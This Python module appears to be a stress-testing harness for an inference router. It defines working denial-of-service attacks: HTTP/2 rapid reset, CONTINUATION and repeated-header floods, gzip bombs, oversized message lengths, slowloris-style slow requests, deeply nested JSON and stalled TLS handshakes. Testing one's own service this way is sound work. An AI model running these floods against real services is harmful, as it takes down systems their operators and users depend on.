"""What a hostile client does to a router, one function for each way. Each ends after some seconds, and counts.

A connection that the router ends is replaced by a new one, so that an attack goes on.
"""

import asyncio
import gzip
import json
import os
import socket
import ssl
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field
from functools import cache, partial
from typing import Any

from floods import http2

from octavo.v1 import inference_pb2

GENERATE = "/octavo.v1.Inference/Generate"
COMPLETE = "/octavo.v1.Inference/Complete"
GONE = (OSError, EOFError, asyncio.TimeoutError)
CHUNK = 16_384
CERTIFICATE = os.environ.get("FLOOD_CERTIFICATE", "")
KEY = f"Bearer {os.environ.get('FLOOD_KEY', '')}".encode()  # of a tenant, for what only tenants can do


@dataclass
class Target:
    """The router that is attacked, how long, and how hard."""

    grpc: tuple[str, int]
    http: tuple[str, int]
    seconds: float
    scale: int  # connections, where an attack is about connections
    tls: bool = False
    until: float = 0.0
    counts: dict[str, int] = field(default_factory=dict)

    def count(self, what: str, number: int = 1) -> None:
        self.counts[what] = self.counts.get(what, 0) + number

    def context(self, address: tuple[str, int]) -> ssl.SSLContext | None:
        """For a connection to this address. It shows the certificate of a client, if there is one."""
        return tls_context("h2" if address == self.grpc else "http/1.1") if self.tls else None

    @property
    def going_on(self) -> bool:
        return time.monotonic() < self.until


Attack = Callable[[Target], Awaitable[None]]
ATTACKS: dict[str, Attack] = {}
TLS_ATTACKS: dict[str, Attack] = {}  # on what comes before TLS
POST = b"POST /v1/completions HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
POST += b"authorization: " + KEY + b"\r\n"
HEAD = POST + b"content-length: %d\r\n\r\n"


@cache
def tls_context(protocol: str) -> ssl.SSLContext:
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
    made.set_alpn_protocols([protocol])
    if CERTIFICATE:
        made.load_cert_chain(CERTIFICATE, os.environ["FLOOD_CERTIFICATE_KEY"])
    return made


def attack(function: Attack, attacks: dict[str, Attack] = ATTACKS) -> Attack:
    attacks[function.__name__.replace("_", "-")] = function
    return function


tls_attack = partial(attack, attacks=TLS_ATTACKS)


@asynccontextmanager
async def connected(
    target: Target, address: tuple[str, int], first: bytes = b"", *, small: bool = False, plain: bool = False
) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    """A connection on which `first` has been sent. `small`: it buffers next to nothing of what it does not read.

    Over TLS if that is what the router speaks, unless it is to be `plain`.
    """
    sock = socket.socket()
    if small:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.setblocking(False)
    try:
        await asyncio.wait_for(asyncio.get_running_loop().sock_connect(sock, address), 20)
    except BaseException:
        sock.close()
        raise
    secured: dict[str, Any] = {}
    if context := None if plain else target.context(address):
        secured = {"ssl": context, "server_hostname": "localhost", "ssl_handshake_timeout": 20}
    reader, writer = await asyncio.open_connection(sock=sock, limit=4096, **secured)
    target.count("connections")
    try:
        writer.write(first)
        yield reader, writer
    finally:
        writer.transport.abort()


async def held(target: Target, names: str, first: bytes, *, plain: bool = False) -> None:
    """Connections to the listeners of these names that are opened, say `first`, and stay."""
    gate = asyncio.Semaphore(100)
    addresses = [getattr(target, name) for name in names.split()]

    async def hold(address: tuple[str, int]) -> None:
        while target.going_on:
            with suppress(*GONE):
                async with gate:
                    context = connected(target, address, first, plain=plain)
                    reader, _ = await context.__aenter__()
                try:
                    while target.going_on:
                        with suppress(TimeoutError):
                            if not await asyncio.wait_for(reader.read(4096), max(0.1, target.until - time.monotonic())):
                                break
                finally:
                    await context.__aexit__(None, None, None)
                target.count("ended by the router", int(target.going_on))
            await asyncio.sleep(1.0 if target.going_on else 0)

    await asyncio.gather(*(hold(addresses[number % len(addresses)]) for number in range(target.scale)))


async def sent(
    target: Target,
    connections: int,
    part: Callable[[int], bytes],
    *,
    frames: bytes | None = None,
    pause_s: float = 0.0,
    reads: bool = True,
) -> None:
    """Connections that send part after part, as fast as they are read: so many, or as many as the scale says.

    Over HTTP; or over HTTP/2, where `frames` come before all parts.
    """
    gate = asyncio.Semaphore(100)
    address, first = (target.http, b"") if frames is None else (target.grpc, http2.hello() + frames)

    async def send() -> None:
        while target.going_on:
            with suppress(*GONE):
                async with gate:
                    context = connected(target, address, first, small=not reads)
                    reader, writer = await context.__aenter__()
                draining, number = asyncio.create_task(drained(reader) if reads else asyncio.sleep(1e6)), 0
                try:
                    while target.going_on and not draining.done() and not writer.is_closing():
                        writer.write(part(number))
                        await asyncio.wait_for(writer.drain(), 5)
                        number += 1
                        target.count("parts")
                        await asyncio.sleep(pause_s)
                finally:
                    draining.cancel()
                    await context.__aexit__(None, None, None)
            await asyncio.sleep(0.05)

    await asyncio.gather(*(send() for _ in range(connections or target.scale)))


async def drained(reader: asyncio.StreamReader) -> None:
    while await reader.read(65536):
        pass


# TLS


async def talk(target: Target, address: tuple[str, int], words: bytes = b"") -> None:
    """Connections, one after the other: with these words in place of a handshake, or with a handshake alone."""
    while target.going_on:
        with suppress(*GONE):
            async with connected(target, address, words, plain=bool(words)) as (reader, _):
                target.count("handshakes", int(not words))
                if words:
                    await asyncio.wait_for(drained(reader), 5)
        await asyncio.sleep(0.01)


@tls_attack
async def handshakes(target: Target) -> None:
    """Whole handshakes, one after the other, on 32 connections at a time."""
    await asyncio.gather(*(talk(target, address) for address in (target.grpc, target.http) * 16))


@tls_attack
async def plain_words(target: Target) -> None:
    """What is no TLS: requests in plain words, and noise."""
    noise = (HEAD % 2 + b"{}", http2.hello(), os.urandom(CHUNK), b"\x16\x03\x01" + os.urandom(CHUNK))
    addresses = (target.grpc, target.http)
    await asyncio.gather(*(talk(target, address, words) for address in addresses for words in noise * 4))


# Frames


@attack
async def rapid_reset(target: Target) -> None:
    """Calls that are cancelled in the packet that makes them."""
    headers = http2.call_headers(GENERATE)

    def part(number: int) -> bytes:
        found = []
        for stream in range(200 * number + 1, 200 * (number + 1), 2):
            found.append(http2.frame(http2.HEADERS, headers, flags=http2.END_HEADERS, stream=stream))
            found.append(http2.frame(http2.RST_STREAM, http2.CANCEL, stream=stream))
        return b"".join(found)

    await sent(target, 8, part, frames=b"")


@attack
async def repeated_headers(target: Target) -> None:
    """A large header that is named 10,000 times by one byte each."""
    large = http2.literal(b"x-large", b"x" * 3900, indexed=True)

    def part(number: int) -> bytes:
        block = http2.call_headers(GENERATE) + (large if number == 0 else b"") + b"\xbe" * 10_000
        return http2.frame(http2.HEADERS, block, flags=http2.END_HEADERS, stream=2 * number + 1)

    await sent(target, 8, part, frames=b"")


# Messages


@attack
async def zipped_bombs(target: Target) -> None:
    """Messages of 20 kB that are 20 MB when they are unpacked."""
    bomb = gzip.compress(b"\0" * 20_000_000, 6)
    headers = http2.call_headers(COMPLETE, (b"grpc-encoding", b"gzip"))

    def part(number: int) -> bytes:
        stream, data = 2 * number + 1, http2.message(bomb, compressed=True)
        frames = [http2.frame(http2.HEADERS, headers, flags=http2.END_HEADERS, stream=stream)]
        frames += [http2.frame(http2.DATA, data[i : i + CHUNK], stream=stream) for i in range(0, len(data), CHUNK)]
        return b"".join(frames) + http2.frame(http2.DATA, flags=http2.END_STREAM, stream=stream)

    await sent(target, 4, part, frames=b"")


@attack
async def long_messages(target: Target) -> None:
    """Messages that say they have 4 GB, and come for ever; and many that stay just below the limit."""
    headers = http2.call_headers(COMPLETE)

    def part(number: int) -> bytes:
        stream = 2 * (number // 300) + 1
        begin = b""
        if number % 300 == 0:
            begin = http2.frame(http2.HEADERS, headers, flags=http2.END_HEADERS, stream=stream)
            length = [2**32 - 1, 4_100_000][number // 300 % 2]
            begin += http2.frame(http2.DATA, http2.message(b"", length=length), stream=stream)
        return begin + http2.frame(http2.DATA, b"\x1a" * CHUNK, stream=stream)

    await sent(target, 8, part, frames=b"")


# Requests


def generate_call(stream: int, max_tokens: int) -> bytes:
    request = inference_pb2.GenerateRequest(text="x" * 200)
    request.sampling.max_tokens, request.sampling.ignore_eos = max_tokens, True
    block = http2.call_headers(GENERATE, (b"authorization", KEY))
    headers = http2.frame(http2.HEADERS, block, flags=http2.END_HEADERS, stream=stream)
    body = http2.message(request.SerializeToString())
    return headers + http2.frame(http2.DATA, body, flags=http2.END_STREAM, stream=stream)


@attack
async def unread_calls(target: Target) -> None:
    """Streams of a client that lets the server send nothing."""
    calls = b"".join(generate_call(2 * i + 1, 2000) for i in range(50))
    count, target.scale = target.scale, max(4, target.scale // 50)
    await held(target, "grpc", http2.hello([(http2.INITIAL_WINDOW_SIZE, 0)]) + calls)
    target.scale = count


@attack
async def large_bodies(target: Target) -> None:
    """Bodies of 4 MB of which the last byte never comes."""
    piece = b"x" * 65536

    def part(number: int) -> bytes:
        return HEAD % 4_194_304 + b'{"prompt": "' if number == 0 else piece if number < 63 else b""

    await sent(target, target.scale, part, pause_s=0.05)


@attack
async def deep_bodies(target: Target) -> None:
    """JSON that is nested a million times, and JSON with a million parts."""
    bodies = [b"[" * 1_000_000, b'{"a":' * 500_000, b'{"prompt":[' + b"1," * 1_000_000 + b"1]}"]
    requests = [HEAD % len(body) + body for body in bodies]
    await sent(target, min(target.scale, 32), lambda number: requests[number % 3])


# Those of one kind, which differ in what they say


def after(first: bytes, more: bytes) -> Callable[[int], bytes]:
    """The parts of a connection: the first one, and then the same again and again."""
    return lambda number: more if number else first


def json_post(**fields: object) -> bytes:
    body = json.dumps(fields).encode()
    return HEAD % len(body) + body


def headers_of(flags: int) -> bytes:
    """The headers of a call, the first of a connection."""
    return http2.frame(http2.HEADERS, http2.call_headers(GENERATE), flags=flags, stream=1)


CHUNKED = POST + b"transfer-encoding: chunked\r\n\r\n"
TRAILERS = b"".join(b"x-%d: %b\r\n" % (i, b"y" * 200) for i in range(300))
MODELS = POST.replace(b"POST /v1/completions", b"GET /v1/models")
STREAMED = json_post(prompt="x", max_tokens=2000, stream=True, ignore_eos=True)
HELD = {
    "idle-grpc": ("grpc", http2.hello()),  # has greeted, and calls nothing
    "mute-grpc": ("grpc", http2.PREFACE[:9]),  # never finishes its greeting
    "idle-http": ("http", b""),
    "half-requests": ("http", b"POST /v1/completions HTTP/1.1\r\nhost: localhost\r\nx-half: "),
}
PLAIN = {
    "mute-tls": b"",  # never begins the handshake
    "half-hellos": b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03",  # begins one of 16 kB and does not go on
}
FRAMES: dict[str, tuple[Callable[[int], bytes], bytes]] = {  # the parts, and what comes before them
    "pings": (lambda _: http2.frame(http2.PING, b"12345678") * 500, b""),
    "settings": (lambda _: http2.frame(http2.SETTINGS, b"\0\4\0\0\xff\xff") * 500, b""),
    # Parts of a message without a byte in them, for ever.
    "empty-frames": (lambda _: http2.frame(http2.DATA, stream=1) * 1000, headers_of(http2.END_HEADERS)),
    # A header block that never ends.
    "endless-headers": (
        lambda _: http2.frame(http2.CONTINUATION, http2.literal(b"x-more", b"x" * 16_000), stream=1),
        headers_of(0),
    ),
    "garbage": (lambda _: os.urandom(CHUNK), b""),
    "calls": (lambda number: generate_call(2 * number + 1, 50), b""),  # as many as connections carry, each with work
}
# The parts, how many connections (0: the scale), the pause between parts, and whether answers are read.
PARTS: dict[str, tuple[Callable[[int], bytes], int, float, bool]] = {
    "posts": (lambda _: json_post(prompt="x" * 200, max_tokens=20) * 20, 0, 0.1, True),
    "slow-headers": (after(POST + b"x-slow: ", b"x"), 0, 0.5, True),  # a byte at a time
    "slow-bodies": (after(HEAD % 4_000_000 + b'{"prompt": "', b"x"), 0, 0.5, True),
    "trailers": (after(CHUNKED + b"1\r\n{\r\n0\r\n", TRAILERS), 16, 0.0, True),  # headers after a body, for ever
    "chunks": (after(CHUNKED, (b"1;" + b"n" * 2000 + b"\r\nx\r\n") * 30), 16, 0.0, True),  # of a byte, with long names
    "unread-answers": (after(STREAMED, b""), 0, 1.0, False),
    # Thousands of requests on a connection.
    "unread-pages": (lambda _: (MODELS + b"\r\n") * 500, 32, 0.0, False),
}
for _name, (_names, _first) in HELD.items():
    ATTACKS[_name] = partial(held, names=_names, first=_first)
for _name, (_part, _first) in FRAMES.items():
    ATTACKS[_name] = partial(sent, connections=8, part=_part, frames=_first)
for _name, (_part, _connections, _pause_s, _reads) in PARTS.items():
    ATTACKS[_name] = partial(sent, connections=_connections, part=_part, pause_s=_pause_s, reads=_reads)
for _name, _first in PLAIN.items():
    TLS_ATTACKS[_name] = partial(held, names="grpc http", first=_first, plain=True)
TLS_ATTACKS["small-records"] = partial(sent, connections=32, part=after(POST + b"x-small: ", b"x"))  # of a byte each
